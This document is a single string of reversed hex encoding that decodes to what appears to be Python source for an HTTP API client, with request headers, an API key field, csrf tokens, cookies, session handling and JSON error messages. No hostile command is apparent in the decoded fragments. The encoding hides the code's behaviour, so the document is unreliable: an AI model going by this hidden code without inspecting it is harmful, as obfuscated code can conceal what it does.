2020202020202a056e6f6e402e627574756270202020202020202a092922227f627275602e677f6e6b6e6552202c22227f62727562282475676e237562702c222a3567616b63616070276e696474756760227f6272754228247e69627070202020202020202a0929223d347e65646e69602c2375627823707d65746e2e6f637a68247e69627070202020202020202a0a337562702e6960247f6e60222164716462202669602020202a002020202a092224535f4052202c2d522e656b6f647f5469622b537e656b6f64702c24616f6c6971607f577162702c28647160702c29756b6f59607168247375657175627f5960716f546e6563702d30237562702020202a09222d79223d347e65646e69602c24616f6c6971607f5771627823707d65746e2e6f637a6b702a34616f6c697160522668247e6962707023202020202a09222e2e2e2567616b63616070276e6968636475664228247e69627070202020202020202a0a347e656c696370247f6e602669602020202a0a046568636163602e627574756270202020202020202a0a356e6f6e40247f6e60237960246568636163602669602020202a056e6f6e4025637c656025686361636f556375702669602929756b6f5568636163602c222e6f6964707f62282475676e25636e6164737e694568636163476f6c61647163402d30246568636163602020202a0925646f636f547e61696271667f5567616b636160702c25646f636f597c696d61666f5567616b636160702c25646f636f5e6f6964707f6f5567616b636160702c29237e656b6f647829756b6f547e657f6363616e25636e6164737e694568636163476f6c6164716348202d3029756b6f5568636163602020202a002020202a0d702020202a05646f636f547e61696271667f5567616b636160702a3225646f636f547e61696271667f5567616b6361607220202020202020202a0c25637c6166402a322074607f5c6c656370757f53796220202020202020202a0c25646f636f5e6f6964707f6f5567616b636160702a3225646f636f5e6f6964707f6f5567616b6361607220202020202020202a0c222e6562202a32276e616c6220202020202020202a0c25637c6166402a322e6f6964716277696d6f53796220202020202020202a0c25637c6166402a32256c626165627168637f53796220202020202020202a0c25637c6166402a3225637962707275647e656f53796220202020202020202a0c25637c6166402a322975726f6475716f53796220202020202020202a0c2222202a322265786f556c6f627f597c696d61666220202020202020202a0c25646f636f597c696d61666f5567616b636160702a3225646f636f597c696d61666f5567616b6361607220202020202020202a0c22254e4f4e42202a32256079747f5e6f6964716277696d6220202020202020202a0c25637c6166402a32256e6964757f627f5e6f69647361637e6162747f53796220202020202020202a05627f6e6769602a356079747023202b702d3024616f6c6971607f577162702020202a022c69616475646f237e6f6964707f6f2375627f64737d2c687f28367f29607162202d3028647160702020202a0e247e6562727573602562602473757d602e6f6964716d6279666e6f636f5e656b6f6470246e61602563696270702a3479602465656e602378647160702563716863627570502e2924796023202020202a037563616c607562702c6c69647370247c657375627028637562766025686478202e6f6964707f6024656863616360256864702370796b637025637c61664d35686361636f5563757023202020202a0a34736964602e3d2029202020202a0c25657274502d302c6f6f62602a35686361636f556375702020202a0c25637c6166402d302c6f6f62602a347e656c6963702020202a0c2222202d30227473702a35646f636f547e61696271667f5567616b636160702020202a0c2222202d30227473702a35646f636f597c696d61666f5567616b636160702020202a0c227473702a35646f636f5e6f6964707f6f5567616b636160702020202a0c24736964602a337e656b6f64702020202a0c227473702a39756b6f596071602020202a082567616b6361607f547567602665646a0a0d5221647164622b537562702e6275747562702020202a056e6f6e402e627574756270202020202020202a09222e2e2e25657e69647e6f63602f64702275647e6540237375627052282475707e6960202020202020202a0929223d347e65646e69602c2375627823707d65746e2e6f637a68247e696270702320202020202020202a09222d7375627b7a337562522668247e69627070202020202020202a09222d75646f636f59727f67656471636f5567616b6361607b7029727f676564716360227f66602375696c696d616660247567602f647024656c696166422668247e69627070202020202020202a0a322353554343455352202d3120292223757471647372282475676e237562702669602020202a092224535f4052202c2d522e656b6f647f5469622b537e656b6f64702c247369646f54616f6c697160702c28647160702c29756b6f59607168247375657175627f5960716f546e6563702d30237562702020202a002020202a0d702020202a022e6562202a32276e616c6220202020202020202a0c25637c6166402a322e6f6964716277696d6f53796220202020202020202a0c25657274502a322c62757f5e6f63696f586479677220202020202020202a0c25646f636f59727f67656471636f5567616b636160702a3225646f636f59727f67656471636f5567616b6361607220202020202020202a0c25637c6166402a32256c626165627168637f53796220202020202020202a0c25637c6166402a3225637962707275647e656f53796220202020202020202a0c2222202a32256079747f5e6f6964716277696d6220202020202020202a0b702d30247369646f54616f6c697160702020202a022375696c696d61666f2375627f64737d2c687f28367f29607162202d3028647160702020202a09222e2e2e2375696c696d616660276e6968636475664228247e696270702020202a0a34736964602e3d2029227473702a35646f636f59727f67656471636f5567616b636160702c24736964602a337e656b6f64702c227473702a39756b6f596071682375696c696d61666f547567602665646a0a016471646f597c696d6166602e6275747562702020202a0a056e6f6e402e627574756270202020202020202a09222d75646f636f597c696d61666b70227f66602164716460297c696d61666024696c616670247567602f647024656c696166422668247e69627070202020202020202a0a356e6f6e40237960216471646f597c696d6166602669602020202a0a0a0b61656272602020202020202020202020202020202a09222d756d616e6f597c696d61666b702a356d616e60297c696d6166402e2d747d6b7d356079747f5e6f6964716277696d602c2d75696b7d35637962707275647e656f537960286479677023737563636573522668247e696270702020202023202020202020202020202020202020202a0a347e656c696370247f6e6026696023202020202020202020202020202020202a09216471646f597c696d6166602c2569602c247d602c25646f636f597c696d616668297c696d61666f5275626d656d65627e25636e6164737e694568636163476f6c61647163402020202020202020202020202020202a05627f6e6769602a3560797470232021647164602d30216471646f597c696d6166602020202020202020202020202020202a0a3222202d3120256d616e6f597c696d61666026696020202020202020202020202a092222202c22256d616e62282475676e2d52297c696d61666f5567616b636160722b51647164602d30256d616e6f597c696d61666020202020202020202020202a0020202020202020202020202a0921647164602c29756b6f5568636163602c22297c696d616662282475707e25636e6164737e694568636163476f6c61647163402020202020202020202020202020202a0d5221647164622b537562702d3021647164602020202020202020202020202020202a0a056e6f6e402e627574756270202020202020202020202020202020202020202a0929223d347e65646e69602c2375627823707d65746e2e6f637a68247e69627070202020202020202020202020202020202020202a09222d75646f636f597c696d61666b70297c696d616660247567602f647024656c696166422668247e69627070202020202020202020202020202020202020202a0a322353554343455352202d3120292223757471647372282475676e237562702669602020202020202020202020202020202a092224535f4052202c2e656b6f647f5469602c247369646f54616f6c697160702c28647160702c29756b6f59607168247375657175627f5960716f546e6563702d30237562702020202020202020202020202020202a0020202020202020202020202a0d702020202020202020202020202020202a022e6562202a32276e616c6220202020202020202020202020202020202020202a0c25637c6166402a322e6f6964716277696d6f53796220202020202020202020202020202020202020202a0c2222202a3225646f636f5c616272756665627220202020202020202020202020202020202020202a0c25657274502a32207c64607f53796220202020202020202020202020202020202020202a0c2569602a3225637962707275647e656f53796220202020202020202020202020202020202020202a0c25637c6166402a322975726f6475716f53796220202020202020202020202020202020202020202a0c25646f636f597c696d6166602a3225646f636f597c696d61666f5567616b6361607220202020202020202020202020202020202020202a0c247d602a32256079747f5e6f6964716277696d6220202020202020202020202020202020202020202a0c25637c6166402a32256e6964757f627f5e6f69647361637e6162747f53796220202020202020202020202020202020202020202a0c25657274502a32247e6566756f5465647163696465646f53796220202020202020202020202020202020202020202a0c25657274502a322261647f576e69676761647f577f68637f53796220202020202020202020202020202020202020202a0b702d30247369646f54616f6c697160702020202020202020202020202020202a0a356e6f6e40237960216471646026696020202020202020202020202a0929756b6f5568636163602c22297c696d616662282475676e25636e6164737e694568636163476f6c61647163402d30216471646020202020202020202020202a092569602c247d602c25646f636f597c696d6166602c247e657f63636168202d3029756b6f55686361636020202020202020202020202a0a09222e2e2e2d747d6b7d356079747f5e6f6964716277696d602c2d75696b7d35637962707275647e656f537960276e69697274522668247e6962707020202020232020202020202020202020202a0a347e656c696370247f6e60266960232020202020202020202020202a0a337e6f6964716e69626d6f63602e69602569602c247d60227f6660202020202020202a0a392925646f636f597c696d6166602c247e657f63636168202c22297c696d616662282b636f6c6f59756b6e25636e6164737e694568636163476f6c616471634028647967702020202a037473756571756270266f60246e657f6270256e6f60256271686370297c696d616660256d61637025686470266f602370757b6f6f6c60247e65627275736e6f634023202020202a0a09237e656b6f647829756b6f547e657f6363616e25636e6164737e694568636163476f6c61647163402d30247e657f636361602020202a056e6f6e402d30216471646f597c696d6166602020202a0a09247e6968602c2038247275637e696e237e6f6964716e69626d6f6360202020202020202a09247e69686825667f6d65627e237e6f6964716e69626d6f6360202020202020202a0a337e6f6964716e69626d6f63602e6960247e6968602669602020202a0925646f636f597c696d616668247e69686f597c696d61666f5475676e25636e6164737e694568636163476f6c61647163402d30247e6968602020202a047372796660256d6964702473716c6024656b627f677024716864702e6f6964716e69626d6f6360256864702972745023202020202a0a0d5473796c6f55637962707275647e656f5379602e6960256960227f66602473796c6f556079747f5e6f6964716277696d602e6960247d60227f6660292569602c247d682b502d30237e6f6964716e69626d6f63602020202a0a09222e656b6f647f546962282475676e237e656b6f64702d302e656b6f647f5469602020202a022473796c6f237e6f6964707f6f2375627f64737d2c687f28367f29607162202d3028647160702020202a0a0a0d556079747f5e6f6964716277696d6b502d302473796c6f556079747f5e6f6964716277696d60202020202020202a0a356e6f6e40247f6e60237960256079747f5e6f6964716277696d602669602020202a0a0d55637962707275647e656f53796b502d302473796c6f55637962707275647e656f537960202020202020202a0a356e6f6e40247f6e6023796025637962707275647e656f5379602669602020202a0a0d502020202a022f4942505f5f445f584f4942505220202020202020202a0c22284f4942505f5f445f5542505220202020202020202a0c22254e4f4e4220202020202020202a0b502d302473796c6f556079747f5e6f6964716277696d602020202a0a0d502020202a0565727450202020202020202a0c25637c616640202020202020202a0b502d302473796c6f55637962707275647e656f5379602020202a09222e2e2e297c696d6166602567616b63616070276e6968636475664228247e69627070202020202020202a0a347e656c696370247f6e602669602020202a0a34736964602e3d20292a05637c6166402d302c6f6f62602a347e656c6963702020202a0c256e6f6e402d30256e6f6e402c70227473702a356079747f5e6f6964716277696d602020202a0c256e6f6e402d30256e6f6e402c702c6f6f62602a35637962707275647e656f5379602020202a0c227473702a35646f636f597c696d6166602020202a0c24736964602a337e656b6f64702020202a0c227473702a39756b6f596071602020202a0822367f597c696d61666f547567602665646a0a0d5221647164622b537562702e6275747562702020202a092d5221647164622b537562702c29756b6f5568636163602c22297c696d616662282475707e25636e6164737e694568636163476f6c61647163402020202a0929223d347e65646e69602c2375627823707d65746e2e6f637a68247e6962707023202020202a056e6f6e402e627574756270202020202020202a09222e2e2e25657e69647e6f63602f64702275647e6540237375627052282475707e6960202020202020202a0929223d347e65646e69602c2375627823707d65746e2e6f637a68247e69627070202020202020202a09222d75646f636f597c696d61666b70297c696d616660247567602f647024656c696166422668247e69627070202020202020202a0a322353554343455352202d3120292223757471647372282475676e237562702669602020202a092224535f4052202c2e656b6f647f5469602c247369646f54616f6c697160702c28647160702c29756b6f59607168247375657175627f5960716f546e6563702d30237562702020202a0a046568636163602e627574756270202020202020202a0a356e6f6e40247f6e60237960246568636163602669602020202a0929756b6f5568636163602c22297c696d616662282475676e25636e6164737e694568636163476f6c61647163402d30246568636163602020202a0925637962707275647e656f5379602c256079747f5e6f6964716277696d602c25646f636f597c696d6166602c29237e656b6f647829756b6f547e657f6363616e25636e6164737e694568636163476f6c6164716348202d3029756b6f5568636163602020202a002020202a0d702020202a022e6562202a32276e616c6220202020202020202a0c25637c6166402a322e6f6964716277696d6f53796220202020202020202a0c2222202a3225646f636f5c616272756665627220202020202020202a0c25657274502a32207c64607f53796220202020202020202a0c25637962707275647e656f5379602a3225637962707275647e656f53796220202020202020202a0c25637c6166402a322975726f6475716f53796220202020202020202a0c25646f636f597c696d6166602a3225646f636f597c696d61666f5567616b6361607220202020202020202a0c256079747f5e6f6964716277696d602a32256079747f5e6f6964716277696d6220202020202020202a0c25637c6166402a32256e6964757f627f5e6f69647361637e6162747f53796220202020202020202a0c25657274502a32247e6566756f5465647163696465646f53796220202020202020202a0c25657274502a322261647f576e69676761647f577f68637f53796220202020202020202a0b702d30247369646f54616f6c697160702020202a09222e656b6f647f546962282475676e237e656b6f64702d302e656b6f647f5469602020202a022473796c6f237e6f6964707f6f2375627f64737d2c687f28367f29607162202d3028647160702020202a09222e2e2e297c696d6166602567616b63616070276e6968636475664228247e696270702020202a0a34736964602e3d20292a02254e4f4e42202d30227473702a356079747f5e6f6964716277696d602020202a0c25637c6166402d302c6f6f62602a35637962707275647e656f5379602020202a0c227473702a35646f636f597c696d6166602020202a0c24736964602a337e656b6f64702020202a0c227473702a39756b6f596071602020202a08297c696d61666f547567602665646a0a0920302c2225636e616c61626f547e696f6072282475676e292d7b702c2229747c61697f6c62282475676e292d7b702c222164716462282475676e237562702e6275747562702020202a05637e6f6073756270256864702e69686479677024656473756e6023796025636e616c616260247e696f60702568645023202020202a00202020202020202a00302e627574756270202020202020202a09222e2e696f607021637963702c69626d61676e656d602c616761674228247e69627070202020202020202a0a337562702e6960247f6e6022216471646220227f60222353554343455352202d3120292223757471647372282475676e237562702669602020202a002020202a092224535f4052202c29222e656b6f647f546962282475676e237e656b6f64702c24616f6c697160702c28647160702c29756b6f59607168247375657175627f5960716f546e6563702d30237562702020202a0d702020202a022e6562202a32276e616c6220202020202020202a0c25637c6166402a3225637962707275647e656f53796220202020202020202a0c29222e656b6f647f53737563636162282475676e237e656b6f64702a322e656b6f647f5373756363616220202020202020202a0b702d3024616f6c697160702020202a0e2e696f607f29747c61697f6c6021647164602e616b696c61626d65676e656d602b65747e65702e656b6f647f537375636361602e616b657c62756d656d60296e6960247e696f60746e654023202020202a022e69676f6c6f286475716f28367f29607162202d3028647160702020202a022222202020202a0e247e696f60746e65602f666e69602e69676f6c60256864702d6f62766025636e616c616260247e696f6070237722756375702568647023756863647566402020202a022222202020202a0a347e69602e3d202924736964602a337e656b6f64702c227473702a39756b6f5960716825636e616c61626f547e696f607f547567602665646a0a0d702020202a037567616b6361607f5c616963656073702a32237567616b6361607f5c6169636560737220202020202020202a0c237e6f69647163696669647f6e602a322e6f69647163696669647f6e6220202020202020202a0c2f666e696f59747c61697f6c602a3229747c61697f6c6220202020202020202a0b702e6275747562702020202a0a09276b607f54656474716d627f6668246e656070716e237567616b6361607f5c61696365607370202020202020202a0d70202020202020202a02676f51647f657b602a3222676f51647f657b622020202020202020202020202a0c247e65636275607f5e6f6b637964602a32247e65636275607f5e6f6b637964622020202020202020202020202a0c25636962707f5465647e657f63637964602a3225636962707f5e6f6b637964622020202020202020202020202a0c25636962707f5c616e696769627f602a3225636962707f5c616e696769627f622020202020202020202020202a0c292222202c222d616271607f5e6f6964736162282475676e276b60702a3224756b61607f55646f6b622020202020202020202020202a0c222d792727202c2729747964696c616677282475676e276b607b70292d792727202c27256c64796477282475676e276b607b78202d792727202c27256d616e6f597c696d616667282475676e276b607b7226602a32256d616e622020202020202020202020202a0b702d30276b607f54656474716d627f6660202020202020202a0a003025637c656025636962707f5c616e696769627f60266960292920302c203031302a2025636962707f5c616e696769627f602f202925636962707f5465647e657f63637964602d2025636962707f5c616e696769627f6828246e657f6278247e69602d30247e65636275607f5e6f6b63796460202020202020202a0920302c2725636962707f5465647e657f6363796467282475676e276b60702d3025636962707f5465647e657f6363796460202020202020202a0920302c2725636962707f5c616e696769627f67282475676e276b60702d3025636962707f5c616e696769627f60202020202020202a0a024740229682e0256479726029627164602320202923302a2a202432303138202f202c61647f647f51647f657b602d3022676f51647f657b60202020202020202a0a092920302c222c61647f6472282475676e247966656e656268247e69602d3b202c61647f647f51647f657b602020202020202020202020202020202a0a322144514442202d3d302922256079747f5164716462282475676e247966656e65626026696020202020202020202020202a0a392d5b502c2223747966656e656262282475676e276b60702e6960247966656e656260227f6660202020202020202a00302d302c61647f647f51647f657b60202020202020202a0a3372756e6e61626f597663702e6960276b6070227f66602020202a0d5b502d30237567616b6361607f5c616963656073702020202a092d5b502c222372756e6e616262282475676e216471646f597663702d302372756e6e61626f597663702020202a092d7b702c222164716462282475676e292d7b702c22257f697f527f666f5c61696365607372282475676e21647164602d30216471646f597663702020202a0a092d5b502c222164716462282475676e292d7b702c222e6f69647163696669647f6e62282475676e21647164602d30237e6f69647163696669647f6e602020202a0a0d702020202a092222202c22256d616e62282475676e292d7b702c22227569647f5c696164756462282475676e216471646f59747c61697f6c602a32256d616e6f527569647220202020202020202a0c2920302c22247e696f607f547e656272757362282475676e216471646f59747c61697f6c602a32247e696f607f547e65627275736220202020202020202a0b702d302f666e696f59747c61697f6c602020202a092d7b702c222164716462282475676e292d7b702c2229747c61697f6c62282475676e21647164602d30216471646f59747c61697f6c602020202a0a0d5221647164622b537562702d3021647164602020202a0a056e6f6e402e627574756270202020202020202a09227275602c222a3f666e696023747e656d67656370276e696474756760227f6272754228247e69627070202020202020202a0375627025637c65602924736964602c2375627825636e6164737e696379602669602922227f627275602e677f6e6b6e6552202c22227f62727562282475676e237562702d3022727560202020202020202a0a39237562702e696022216471646220246e61602924736964602c2375627825636e6164737e6963796820247f6e602669602020202a0a056e6f6e402e627574756270202020202020202a09222d756b702a33747e656d67656370227f6660247375657175627029405140276e69646e656370227f627275422668247e69627070202020202020202a0a35602371602e6f6964707563687540247075636875602020202a092224535f4052202c2e656b6f647f5469602c24616f6c697160702c28647160702c29756b6f59607168247375657175627f5960716f546e6563702d3023756270202020202020202a0a397274702020202a0a0d702020202a02264533393e4d2d4352202a32256d616e6f5c65646f6d6220202020202020202a0c22276e65737d616372202a32256d616e6f5275627574736166657e616d6220202020202020202a0c22246962202a32276e616c6220202020202020202a0c25637c6166402a3225637962707275647e656f53796220202020202020202a0c22254c4f425f5f4e42202a32256c6f627f5e616c607f597c696d61666220202020202020202a0c25636e616c6162602a3225636e616c61626f547e65627275736220202020202020202a0c22203e273e2832202a322e6f69637275667f5070716220202020202020202a0c2e656b6f647f537375636361602a322e656b6f647f5373756363616220202020202020202a0b702d3024616f6c697160702020202a0223747e656d6765637f28367f2960716f2462716f626863716462202d3028647160702020202a022222202020202a0e23727566666f602c61696365607370246e61602c237e6f69647163696669647f6e602c29747c61697f6c60256b696c6023747e656d67656370227563757023757f696271667023756863647566402020202a022222202020202a0a356e6f6e402c7024736964602e3d202920302d30247e69602a35636e616c6162602c227473702a3e656b6f647f537375636361602c227473702a3e656b6f647f5469602c227473702a39756b6f5960716823747e656d676563702665646a0a056e6f6e402e627574756270202020202020202a092375627025637c65602924736964602c2375627825636e6164737e696379602669602922227f627275602e677f6e6b6e6552202c22227f62727562282475676e237562702c222a31647f657170276e696474756760227f6272754228247e69627070202020202020202a0a35637c65602020202a0d75637c6166402a32246564796d696c6e657f53716862202c20302a322c61647f6472202c20302a32276e696e69616d6562722b702e62757475627020202020202020202020202a00302e6275747562702c25637e6f60737562702c6576637375636365737021602e6960216471646021647f6571702f6e40232020202020202020202020202a0a35637c6560202020202020202a0d7020202020202020202020202a0925637c6166402c22246564796d696c6e657f53716862282475676e21647f6571702a32246564796d696c6e657f53716862202020202020202020202020202020202a0c2920302c222c61647f6472282475676e21647f6571702a322c61647f6472202020202020202020202020202020202a0c2920302c22276e696e69616d656272282475676e21647f6571702a32276e696e69616d656272202020202020202020202020202020202a0b702e62757475627020202020202020202020202a0a31647f657170266960202020202020202a09222164716462282475676e292d7b702c2221647f657172282475676e2d5221647164622b537562702d3021647f657170202020202020202a0a337562702e696022216471646220246e61602924736964602c2375627825636e6164737e696379602669602020202a0a056e6f6e402e627574756270202020202020202a0925602c222a31647f657170227f6660247375657175627029405140276e69646e656370227f6272754228247e69627070202020202020202a0a35602371602e6f6964707563687540247075636875602020202a092224535f4052202c2e656b6f647f5469602c24616f6c697160702c28647160702c29756b6f59607168247375657175627f5960716f546e6563702d3023756270202020202020202a0a397274702020202a0a0d702020202a022e6562202a32276e616c6220202020202020202a0c25637c6166402a3225637962707275647e656f53796220202020202020202a0b702d3024616f6c697160702020202a022972716d6d65737d21647f65717f237567616b6361607f28367f29607162202d3028647160702020202a022222202020202a0e2972716e6f6964736964602160237e627574756270246e61602c2d6568647023756471676562776761602c2371647f65717021647164602c6c616023756863647566402020202a022222202020202a0a34736964602e3d2029227473702a3e656b6f647f5469602c227473702a39756b6f5960716821647f65717f5e69616d6f547567602665646a002020202a056e6f6e402e627574756270202020202020202a092922227f627275602e677f6e6b6e6552202c22227f62727562282475676e237562702c222a35636e616c616260276e696474756760227f6272754228247e69627070202020202020202a0a35637c65602020202a0d5225636e616c6162622b5d5221647164622b537562702e62757475627020202020202020202020202a0a3d5221647164622b537562702e69602225636e616c61626220266960202020202020202a0a337562702e696022216471646220246e6160237562702669602020202a002020202a09222d79223d347e65646e69602c2375627823707d65746e2e6f637a6b7e6c5a3d5635323d22474b522668247e6962707023202020202a092224535f4052202c2e656b6f647f5469602c24616f6c6971607f577162702c28647160702c29756b6f59607168247375657175627f5960716f546e6563702d30237562702020202a09222e2e2e25636e616c616260276e6968636475664228247e6962707023202020202a002020202a0d702020202a022e6562202a32276e616c6220202020202020202a0c25637c6166402a3225637962707275647e656f53796220202020202020202a0b702d3024616f6c6971607f577162702020202a002020202a022479646562736d246e616d25636e616c61626f237567616b6361607f28367f29607162202d3028647160702020202a0a34736964602e3d2029227473702a3e656b6f647f5469602c227473702a39756b6f5960716825636e616c61626f547567602665646a0a056e6f6e4025637c65602375627026696029222164716462282475676e237562702e6275747562702020202a0a092224535f4052202c2e656b6f647f5469602c24616f6c6971607f577162702c28647160702c29756b6f59607168247375657175627f5960716f546e6563702d30237562702020202a09222e2e2e256c69666f627070276e6968636475664228247e6962707023202020202a0a0d702020202a022e6562202a32276e616c6220202020202020202a0c25637c6166402a3225637962707275647e656f53796220202020202020202a0c22203e273e2832202a322e6f69637275667f5070716220202020202020202a0c2e656b6f647f537375636361602a322e656b6f647f5373756363616220202020202020202a0b702d3024616f6c6971607f577162702020202a0a02256c69666f62707f28367f29607162202d3028647160702020202a0a34736964602e3d2029227473702a3e656b6f647f5469602c227473702a3e656b6f647f537375636361602c227473702a39756b6f59607168256c69666f62707f547567602665646a0a0928247e656d656c647475637f597669647f6e60202020202020202a0a397c6c616e6966602020202a092e6f637a6f59746f626d31647164602c237275646165686d33727564616568602c2c62757824737f607e25636e6164737e6944727f60737e616274502e62757475627020202020202020202020202a0a3928647160702c222d6165627473707572282e6160737e25636e6164737e69427563616274502864796770202020202020202a0a397274702020202a0928647160702c29746f626823707d65746e25636e6164737e69427563616274502d302e6f637a6f59746f62602020202a022d786471607b7f2d7c42555f5940514f554351424b7226602d302c6275702020202a022222202020202a0e227f627275602568647025627f66656260247e656d69716070256864702e656b616470256671686029716d60227566727563702568647025636e6963702c2375637961627024737565717562702020202a056864702e656867702e656675602e6572702922756e656473796c6f547e656d656c647475637f52756473796765627025656378202372756e656473796c60247e656d656c64747563502020202a0e25637e6f60737562702771627025686470237e627574756270246e616029746f62602d65656465627f247e656d656c6474756370246564707972736e656029746165627c61602e61602374535f40502020202a022222202020202a0a3924736964602a39746f62602c24736964602a33727564616568602c227473702a3864716078247e656d656c647475637f54737f60702665646a0a056e6f6e402e627574756270202020202020202a0925602c222d52727560247079727365646b5228247e69627070202020202020202a0a35602371602e6f6964707563687540247075636875602020202a056e6f6e402e627574756270202020202020202a09222e2e2e2d7d5030353a3b547875647e207375627b7e6c5a39746f626025637e6f60737562502e2e677f6460256260247867696d60227566727563502e2e4f435a4024696c616670247f6e6023796025637e6f60737562502d52727560247375657175627b522668247e69627070202020202020202a092562716c6664657f6c634029627164602c4d445840227f627275602e616d616c6168602c21697e6c6163796d68202e4f435a402e616b65726025637e6f6073756270216b696a402320202020202020202a0a327f62727545646f6365644e4f435a4e2e6f637a60247075636875602020202a09746f626f546564707972736564602e627574756270202020202020202a09286471607d38647160702c2928647160702c247875647e20737562782374616f6c6e25636e6164737e69427563616274502c29756b6f5960716821647164687f54707972736564602d3029746f626f54656470797273656460202020202020202a057c6578616460286962656c627564702e4f435a40296167616265637025637e6f607375627025637271607021626f63402320202020202020202a0a397274702020202a0a09222d79223d347e65646e69602c237275646165686823707d65746e2e6f637a6b702a33727564616568422668247e6962707023202020202a002020202a092e6f637a6f59746f626d31647164602c237275646165686d33727564616568602c2c62757824737f607e25636e6164737e6944727f60737e616274502d302073756270202020202020202a0a3928647160702c222d6165627473707572282e6160737e25636e6164737e694275636162745028647967702020202a0928647160702c29746f626823707d65746e25636e6164737e69427563616274502d302e6f637a6f59746f62602020202a022d786471607b7f2d7c42555f5940514f554351424b7226602d302c6275702020202a0a002020202a002020202a0d702020202a0c22203e273e2832202a322070716d2e6f69637275667d287220202020202020202a0c29277f6e68207d616473756d69647f556b696c6f5166716a602a3224716d247375657175627d287220202020202020202a0c29292824346965757e2469657578227473702a3224696d247375657175627d287220202020202020202a0c2769637f58702a3225627574716e6769637d287220202020202020202a0c292365637f556d69647f57696378227473702a32256d69647d25627574716e6769637d287220202020202020202a0c22233672202a3226786d287220202020202020202a0c222d7e656b6f647f54696b702275627165624226602a322e6f6964716a79627f686475716220202020202020202a0c29554b4f594051402a3229756b6d2960716d287220202020202020202a0c2145502a32247e6567616d227563757220202020202020202a0c22283d2664757d34756372716863602b3e6f637a6f2e6f69647163696c60707162202a32256079747d247e65647e6f636220202020202020202a0c292222202c222f2f2a337074747862282563616c6075627e2c42555f5940514f55435142402a3224737f686220202020202020202a0b702d3023727564616568602020202a002020202a0d5225627574716e6769637f58722b54616f6c6971607f546564707972736e65602d302769637f58702020202a0d5229746f626f546564707972736e65622b54616f6c6971607f546564707972736e65602d3029746f62602020202a0a0920303031302f2f20256d69647878202d302365637f556d69647f576963702020202a0928256e6f6a756d696473716e292364757e256e6f6a756d696478277f6e6e256d696475647164602d30277f6e602020202a002020202a092d52256d696478722b5d5229746f626f546564707972736e65622b54616f6c6971607f546564707972736e6568247e69602d30256d696478702020202a002020202a09202020202a047369646f54616f6c6971607d34616f6c69716070202020202020202a0c2e656b6f647f54696d3e656b6f647f546960202020202020202a0c286471607d3864716070202020202020202a0c246f6864756d6d346f6864756d60202020202020202a0c29756b6f5960716d39756b6f59607160202020202020202a0821647164687f5e67696374707972736e65602d3024616f6c6971607f546564707972736e65602020202a0a392a0c2224535f4052202d30227473702a346f6864756d602020202a0c227473702a3e656b6f647f5469602020202a0c24736964602a347369646f54616f6c697160702020202a0c227473702a38647160702020202a0c227473702a39756b6f596071602020202a08247375657175627f5960716f546e6563702665646a0a09746f62602e6275747562702020202a002020202a09222d792727202c272e6f6964707962736375646f527f62727567282475676e29746f626b702d202d7d57227f627275672b59746f626b702a35637e6f60737562702e6960227f627275422668227f62727545657c616650256379616270202020202020202a0a39746f62602e696022227f62727562202669602020202a092225637e6f60737562702e6960246e657f6660247f6e602e656b6f647024494228227f62727545657c616650256379616270202020202020202a0a39746f62602e6960247f6e60222e656b6f647f546962202669602020202a002020202a09282e6f637a6e20737562702d3029746f62602020202a0a09282375747164737f527f666f55637961627e20737562702020202a00202020202020202a056e6f6e402e62757475627020202020202020202020202a09222e247e657f63636160256864702464616d256270246e616025667f6d6562702371656c60502e24656279607875602e656b6f6470286375627665625228247e6962707020202020202020202020202a0a3225667964736160247f6e602e6f696373756352202d3d3029222e6f6964707962736375646f527f62727562282475676e29282e6f637a6e2073756270266960202020202020202a0a303034302d3d3025646f636f5375747164737e20737562702669602020202a09216471646d31647164602c237275646165686d33727564616568602c2c62757824737f607e25636e6164737e6944727f60737e616274502d3020737562702020202a0a0d702020202a0e656b6f647f58637562766562702a322e656b6f647f586375627665627220202020202020202a0c222e656b6f647f5863756276656272202a32256079747f547e6162776220202020202020202a0b702d3021647164602020202a0a0d702020202a022465646f636e656c62757d2d627f666d2777777d287f2e6f69647163696c60707162202a32256079747d247e65647e6f636220202020202020202a0c222449414055425052202a3225607974737265737d28716220202020202020202a0c2145502a32247e6567616d227563757220202020202020202a0c222d784455514f53494351424b7023696371624226602a322e6f6964716a79627f686475716220202020202020202a0c20564f5851402a32247e6962707275676e69666d28716220202020202020202a0c22264533393e4d2d4352202a322c65646f6d6d2563696675646d247375657175627d28716220202020202020202a0c22276e65737d616372202a322563696675646d247375657175627d28716220202020202020202a0c24696f547375657175627f5871602a3224696d247375657175627d28716220202020202020202a0c24494f5543494655444f5851402a3224696d2563696675646d28716220202020202020202a0c24716f547375657175627f5871602a3224716d247375657175627d28716220202020202020202a0c292222202c222f2f2a337074747862282563616c6075627e2c42555f5d4149434f55435142402a3224737f684220202020202020202a0b702d3023727564616568602020202a0a09292824346965757e2469657578227473702d3024696f547375657175627f5871602020202a02203037303b22202b202d533d2a3b592226652e23552a3d452a38452454652d2d652d29552228256d6964766274737e277f6e602d3024716f547375657175627f5871602020202a073b245d4740232020292929273d3372757f686821647c6564656d696478256e6f6a756d696478277f6e6e256d696475647164602d30277f6e602020202a0a0c42555f50545f4f54594d424553502d302c6275702020202a0a327473702e3d2029227473702a3e656b6f647f58637562766562782e656b6f647f57756e6f547567602665646a0a056e6f6e402e627574756270202020202020202a09222d756b702a3d50747f6f54796d62657370227f6272754b522668247e69627070202020202020202a0a35602371602e6f69647075636875447375657175625e237473756571756270247075636875602020202a09746f626f5e6f637a602e627574756270202020202020202a09222e2c657663737563636573702e69676f6c4228247e69627070202020202020202a00202020202020202a056e6f6e402e62757475627020202020202020202020202a09222d7d572e6f6964707962736375646f527f627275672b59746f626f5e6f637a6b702a3d50747f6f54796d62657370227f6272754b522668247e6962707020202020202020202020202a0a39746f626f5e6f637a602e696022227f6272756220266960202020202020202a00202020202020202a09247875647e25637e6f60737562782374616f6c6e2e6f637a602d3029746f626f5e6f637a60202020202020202a09237275646165686d33727564616568602c24616f6c6971607d31647164602c2c62757824737f607e25636e6164737e6944727f60737e616274502d3025637e6f6073756270202020202020202a0a397274702020202a0a0d702020202a0c2145502a32247e6567614d227563755220202020202020202a0c222465646f636e656c62757d2d627f666d2777777d287f2e6f69647163696c60707162202a32256079745d247e65647e6f634220202020202020202a0c222449414055425052202a3225607974737265735d28714220202020202020202a0c29292824346965757e2469657578227473702a3224694d247375657175625d28714220202020202020202a0c22264533393e4d2d4352202a322c65646f6d4d2563696675644d247375657175625d28714220202020202020202a0c22276e65737d616372202a322563696675644d247375657175625d28714220202020202020202a0c2275646165686f5374702a3224714d247375657175625d28714220202020202020202a0c20564f5851402a32247e6962707275676e69664d28714220202020202020202a0c24494f5543494655444f5851402a3224694d